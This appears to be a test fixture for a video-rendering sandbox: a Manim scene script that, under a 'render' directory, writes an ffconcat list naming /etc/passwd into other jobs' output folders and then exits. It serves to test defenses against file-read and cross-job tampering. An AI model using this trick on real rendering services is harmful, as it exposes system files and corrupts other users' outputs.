# about: leaves an ffmpeg concatenation list of other files as its video.
# expect: bad_output

import glob
import os

from manim import *


class Video(Scene):
    def construct(self):
        self.play(Create(Circle()), run_time=0.2)
        for directory in glob.glob(os.path.abspath("../out-*")) if "render" in os.getcwd() else []:
            target = directory + "/video"
            with open(target, "w") as file:
                file.write("ffconcat version 1.0\nfile /etc/passwd\n")
            os._exit(0)
